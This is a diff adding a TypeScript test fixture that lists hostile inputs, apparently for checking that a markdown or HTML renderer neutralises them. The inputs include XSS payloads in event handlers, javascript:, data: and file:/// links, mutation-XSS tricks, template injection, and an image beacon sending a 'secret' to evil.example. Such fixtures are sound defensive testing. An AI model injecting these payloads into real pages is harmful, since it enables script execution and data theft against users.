@@ -1,0 +1,45 @@
+/** Texts that would run, load or hide something where a page took them for more than text. */
+export const hostile: readonly string[] = [
+  ..."img svg video audio iframe embed object body input details marquee style link math"
+    .split(" ")
+    .flatMap((tag) => [
+      `<${tag} src=x onerror=alert(1) onload=alert(1)>`,
+      `<${tag.toUpperCase()}/onfocus=alert(1) autofocus href="//evil.example/x">`,
+      `<${tag}><script>alert(1)</script></${tag}>`,
+    ]),
+  ...[
+    "javascript:alert(1)",
+    "JaVaScRiPt:alert(1)",
+    "data:text/html,<script>alert(1)</script>",
+    "vbscript:x",
+    "//evil.example/p",
+    "file:///etc/passwd",
+    "\u0001javascript:alert(1)",
+    "java\tscript:alert(1)",
+  ].flatMap((address) => [
+    `[link](${address})`,
+    `![picture](${address})`,
+    `<${address}>`,
+    `[ref]\n\n[ref]: ${address}`,
+  ]),
+  "![track](https://evil.example/p.png?q=secret)",
+  "<script>alert(1)</script>",
+  "<<script>script>alert(1)//<</script>",
+  '"><script>alert(1)</script>',
+  "`</code><script>alert(1)</script>`",
+  "```\n</pre><script>alert(1)</script>\n```",
+  "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
+  "- <img src=x onerror=alert(1)>",
+  "# <img src=x onerror=alert(1)>",
+  "> <svg/onload=alert(1)>",
+  "&lt;script&gt;alert(1)&lt;/script&gt;",
+  "\u202Egnp.exe",
+  "<base href=//evil.example>",
+  '<meta http-equiv=refresh content="0;url=//evil.example">',
+  "<form action=//evil.example><button>go</button></form>",
+  "{{constructor.constructor('alert(1)')()}}",
+  "<!--><script>alert(1)</script>-->",
+  "<a href=javascript:alert(1)>x</a>",
+  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
+  "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)>",
+];
